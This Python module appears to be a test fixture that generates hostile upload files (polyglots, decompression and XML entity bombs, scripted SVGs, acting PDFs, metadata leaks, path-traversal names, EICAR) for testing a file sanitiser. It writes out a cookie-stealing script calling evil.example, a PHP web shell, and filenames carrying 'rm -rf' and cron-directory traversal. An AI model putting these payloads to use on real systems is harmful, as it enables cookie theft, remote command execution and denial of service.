"""Five hundred hostile files, each another: ten kinds of malice, fifty of each, always the same ones.

What may never be handed on bears ``TELLTALE`` or says so by itself (``FORBIDDEN``), so that whatever is kept can be
looked through for it.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from random import Random
from typing import Final

from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import ExifTags, Image, PngImagePlugin

from tests.content.forms import bombs, made
from tests.content.forms.documents_made import docx, docx_parts, field, odt_parts, paragraph, saved, workbook, zipped
from tests.content.forms.recordings_made import recording
from tests.content.forms.scanner_made import EICAR

EACH: Final = 50
TELLTALE: Final = b"TellTale-31.9539-Rana"
FORBIDDEN: Final = (
    TELLTALE,
    EICAR,
    b"<script",
    b"javascript:",
    b"/JavaScript",
    b"/Launch",
    b"/EmbeddedFile",
    b"MZ\x90",
)
RECORDINGS: Final = ("phone.mp4", "phone.mov", "browser.webm", "voice.webm", "voice.ogg", "voice.m4a", "voice.wav")
SCRIPT: Final = b"<script>fetch('//evil.example/'+document.cookie)</script>" + TELLTALE


@dataclass(frozen=True, slots=True)
class Hostile:
    """One file: which kind of malice it is, and under which name it comes."""

    kind: str
    name: str
    content: bytes


def hostile_files(each: int = EACH) -> Iterator[Hostile]:
    """``each`` of every kind; those of a smaller number are among those of a larger one."""
    for kind, make in KINDS.items():
        for number in range(each):
            name, content = make(number, Random(f"{kind} {number}"))  # noqa: S311  nothing is guessed here
            yield Hostile(kind, name, content)


@cache
def good() -> dict[str, bytes]:
    """One honest file of each type that is taken, no recordings among them."""
    return {
        "a.jpg": made.photo(),
        "a.png": made.picture("PNG"),
        "a.webp": made.picture("WEBP"),
        "a.heic": made.heic_photo(),
        "a.pdf": made.PDF,
        "a.docx": docx(),
        "a.xlsx": saved(workbook()),
        "a.odt": zipped(odt_parts()),
    }


def _one_of(number: int, *, recordings: bool = True) -> tuple[str, bytes]:
    names = [*good(), *(RECORDINGS if recordings else ())]
    name = names[7 * number % len(names)]  # so that a few of them are of many types
    return name, good()[name] if name in good() else recording(name)


def polyglot(number: int, random: Random) -> tuple[str, bytes]:
    """Two files in one: a page, a program, an archive or a script behind, before or inside of an honest one."""
    name, content = _one_of(number, recordings=False)
    php = b"<?php system($_GET[0]);?>" + TELLTALE
    others = (SCRIPT, b"MZ\x90\0" + TELLTALE, made.package({"evil.class": TELLTALE}), php)
    other = others[random.randrange(len(others))] + bytes(random.randrange(200))
    match random.randrange(3):
        case 0:
            return name, content + other
        case 1:
            return name, other + content
        case _:
            return f"a.{random.choice(('html', 'svg', 'php', 'jar', 'hta'))}", content + other


def torn(number: int, random: Random) -> tuple[str, bytes]:
    """Cut off somewhere, at its very beginning too."""
    name, content = _one_of(number)
    return name, content[: random.choice((random.randrange(1, 40), random.randrange(len(content))))]


def spoilt(number: int, random: Random) -> tuple[str, bytes]:
    """With some of its bytes changed, whatever they say."""
    name, content = _one_of(number)
    bytes_ = bytearray(content)
    for _time in range(random.choice((1, 8, 64))):
        bytes_[random.randrange(len(bytes_))] = random.randrange(256)
    return name, bytes(bytes_)


def flood(number: int, random: Random) -> tuple[str, bytes]:
    """A small picture that says it has a thousand million pixels, or draws itself a thousand times."""
    wide, high = random.randrange(20_000, 2**16), random.randrange(20_000, 2**16)
    match number % 5:
        case 0:
            return "a.png", bombs.png(wide, high)
        case 1:
            return "a.webp", bombs.plain_webp(random.randrange(9_000, 16_384))
        case 2:
            return "a.jpg", bombs.scans_repeated(random.randrange(30, 300), side=random.randrange(64, 900))
        case 3:
            content = made.photo()
            place = content.index(b"\xff\xc0") + 5
            return "a.jpg", content[:place] + struct.pack(">HH", high, wide) + content[place + 4 :]
        case _:
            content = made.heic_photo()
            place = content.index(b"ispe") + 8
            return "a.heic", content[:place] + struct.pack(">II", wide, high) + content[place + 8 :]


def swelling(number: int, random: Random) -> tuple[str, bytes]:
    """A package, or a PDF, that becomes hundreds of megabytes or hundreds of thousands of parts."""
    megabytes = random.randrange(250, 500)
    match number % 5:
        case 0:
            return "a.docx", bombs.swelling_document(megabytes)
        case 1:
            return "a.odt", bombs.lying_mimetype(bombs.zeros_in_bz2(megabytes), bombs.BZ2)
        case 2:
            return "a.xlsx", bombs.many_parts(random.randrange(20_000, 60_000))
        case 3:
            nested = random.randrange(4, 9)
            entities = b"".join(b'<!ENTITY a%d "%s">' % (at, b"&a%d;" % (at - 1) * 10) for at in range(1, nested + 1))
            laughing = b'<!DOCTYPE x [<!ENTITY a0 "ha">%s]><x>&a%d;</x>' % (entities, nested)
            return "a.docx", zipped(docx_parts() | {"word/document.xml": laughing})
        case _:
            stream = zlib.compress(bytes(megabytes * 200_000), 9)
            head = b"9 0 obj\n<</Filter/FlateDecode/Length %d>>\nstream\n" % len(stream)
            return "a.pdf", made.PLAIN_PDF.replace(b"trailer", head + stream + b"\nendstream\nendobj\ntrailer")


def drawn_script(number: int, random: Random) -> tuple[str, bytes]:
    """SVG with a script, under whatever name, and inside of documents."""
    bodies = (b"<script>%s</script>", b'<image href="javascript:%s"/>', b"<foreignObject>%s</foreignObject>")
    body = random.choice(bodies)
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="%s">' % TELLTALE + body % TELLTALE + b"</svg>"
    head = random.choice(
        (b"", b"\xef\xbb\xbf", b'<?xml version="1.0"?>', b"<!--" + bytes(random.randrange(90)) + b"-->")
    )
    match number % 4:
        case 0:
            return "a.docx", docx(more={"word/media/image1.svg": head + svg})
        case 1:
            return "a.odt", zipped(odt_parts(more={"Pictures/1.svg": head + svg}))
        case _:
            return f"a.{random.choice(('svg', 'png', 'jpg', 'pdf', 'svgz'))}", head + svg


def acting_pdf(number: int, random: Random) -> tuple[str, bytes]:
    """A PDF that runs a script, starts a program, sends a form, or brings a file along."""
    script = String(f"app.launchURL('javascript:{TELLTALE.decode()}{number}')")
    action = random.choice(
        (
            Dictionary(S=Name.JavaScript, JS=script),
            Dictionary(S=Name.Launch, F=String(f"{TELLTALE.decode()}.exe")),
            Dictionary(S=Name.URI, URI=script),
            Dictionary(S=Name.SubmitForm, F=script),
            Dictionary(S=Name.GoToE, F=script),
        )
    )
    written = io.BytesIO()
    with Pdf.new() as pdf:
        page = pdf.add_blank_page(page_size=(99, 99))
        match number % 5:
            case 0:
                pdf.Root.OpenAction = action
            case 1:
                pdf.Root.AA = page.obj.AA = Dictionary(O=action, C=action)
            case 2:
                pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), action])))
            case 3:
                link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)
                page.obj.Annots = Array([pdf.make_indirect(link)])
            case _:
                inside = pdf.make_indirect(Stream(pdf, TELLTALE + b"MZ\x90", Type=Name.EmbeddedFile))
                file = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=inside))
                pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("a"), file])))
        pdf.save(written)
    return "a.pdf", written.getvalue()


def telling(number: int, random: Random) -> tuple[str, bytes]:
    """A place, a name, a serial number in what surrounds the picture, the words or the sound."""
    return _TELLING[number % len(_TELLING)](random)


def misnamed(number: int, random: Random) -> tuple[str, bytes]:
    """An honest file whose name leads out of its folder, turns around or is something else."""
    name, content = _one_of(number, recordings=False)
    ending = name.rpartition(".")[2]
    return random.choice(
        (
            f"../../../../etc/cron.d/{number}.{ending}",
            f"..\\..\\Windows\\{number}.{ending}",
            f"photo\u202e{ending[::-1]}.exe",
            f"\u2066invoice\u2069\u200f{number}.{ending}",
            f"a{number}.{ending}\0.exe",
            f"con.{ending}",
            f"{'long' * 100}{number}.{ending}",
            f"<img src=x onerror=alert({number})>.{ending}",
            f"%2e%2e%2f{number}.{ending}",
            "." * random.randrange(1, 9),
            f"a;rm -rf {number}\n\r.{ending}",
        )
    ), content + bytes([number % 256])  # no two are the same


def virus(number: int, random: Random) -> tuple[str, bytes]:
    """The file by which scanners are tried: alone, behind, inside."""
    at = bytes(random.randrange(30)) + EICAR + b"%d" % number
    match number % 6:
        case 0:
            return f"a.{random.choice(('com', 'jpg', 'pdf', 'docx', 'mp4'))}", EICAR + b"%d" % number
        case 1:
            return "a.docx", docx(more={"word/eicar.com": at})
        case 2:
            return "a.pdf", made.PDF + at
        case 3:
            return "a.jpg", made.photo() + at
        case 4:
            return "a.zip", made.package({"eicar.com": at})
        case _:
            return "a.png", bombs.png(8, 8, bombs.png_chunk(b"tEXt", b"Comment\0" + at))


def _exif(random: Random) -> bytes:
    exif = Image.Exif()
    for tag in (ExifTags.Base.Artist, ExifTags.Base.Make, ExifTags.Base.Copyright, ExifTags.Base.ImageDescription):
        exif[tag] = TELLTALE.decode()
    exif[ExifTags.IFD.GPSInfo] = {1: "N", 2: (31.0, 57.0, random.random()), 3: "E", 4: (35.0, 55.0, 48.0)}
    exif[ExifTags.IFD.Exif] = {ExifTags.Base.BodySerialNumber: TELLTALE.decode()}
    return exif.tobytes()


def _picture(random: Random, kind: str, **more: object) -> bytes:
    buffer = io.BytesIO()
    colour = tuple(random.randrange(256) for _part in range(3))
    Image.new("RGB", (16, 16), colour).save(buffer, kind, exif=_exif(random), **more)
    return buffer.getvalue()


def _png_words(random: Random) -> tuple[str, bytes]:
    words = PngImagePlugin.PngInfo()
    words.add_text("Author", TELLTALE.decode(), zip=random.random() < 0.5)
    words.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta>{TELLTALE.decode()}</x:xmpmeta>")
    return "a.png", _picture(random, "PNG", pnginfo=words)


def _pdf_words(random: Random) -> tuple[str, bytes]:
    written = io.BytesIO()
    with Pdf.new() as pdf:
        pdf.add_blank_page(page_size=(99, 99))
        pdf.docinfo["/Author"] = pdf.docinfo["/Keywords"] = TELLTALE.decode() + str(random.random())
        pdf.Root.Metadata = Stream(pdf, b"<x:xmpmeta>%s</x:xmpmeta>" % TELLTALE, Type=Name.Metadata, Subtype=Name.XML)
        pdf.save(written)
    return "a.pdf", written.getvalue()


def _docx_words(random: Random) -> tuple[str, bytes]:
    body = paragraph("Visible") + f"<w:p>{field(f'AUTHOR {random.random()}', 'x')}</w:p>"
    core = f"<cp><creator>{TELLTALE.decode()}</creator></cp>"
    more = {"docProps/core.xml": core, "docProps/custom.xml": core, "word/media/1.jpeg": _picture(random, "JPEG")}
    return "a.docx", docx(body, more=more)


def _xlsx_words(random: Random) -> tuple[str, bytes]:
    book = workbook({"A1": random.random()})
    book.properties.creator = book.properties.lastModifiedBy = book.properties.description = TELLTALE.decode()
    return "a.xlsx", saved(book)


def _odt_words(random: Random) -> tuple[str, bytes]:
    meta = f"<office:document-meta>{TELLTALE.decode()}{random.random()}</office:document-meta>"
    return "a.odt", zipped(odt_parts(more={"meta.xml": meta, "Pictures/1.jpeg": _picture(random, "JPEG")}))


def _film(random: Random) -> tuple[str, bytes]:
    name = random.choice(RECORDINGS)
    box = struct.pack(">I", 8 + len(TELLTALE)) + b"free" + TELLTALE
    return name, recording(name) + (box if name.endswith(("4", "v", "a")) else b"")


_TELLING: Final[tuple[Callable[[Random], tuple[str, bytes]], ...]] = (
    lambda random: ("a.jpg", _picture(random, "JPEG", comment=TELLTALE)),
    lambda random: ("a.webp", _picture(random, "WEBP", xmp=b"<x:xmpmeta>%s</x:xmpmeta>" % TELLTALE)),
    lambda random: ("a.heic", made.heic_of(_exif(random))),
    *(_png_words, _pdf_words, _docx_words, _xlsx_words, _odt_words, _film),
)
KINDS: Final[dict[str, Callable[[int, Random], tuple[str, bytes]]]] = {
    each.__name__: each
    for each in (polyglot, torn, spoilt, flood, swelling, drawn_script, acting_pdf, telling, misnamed, virus)
}
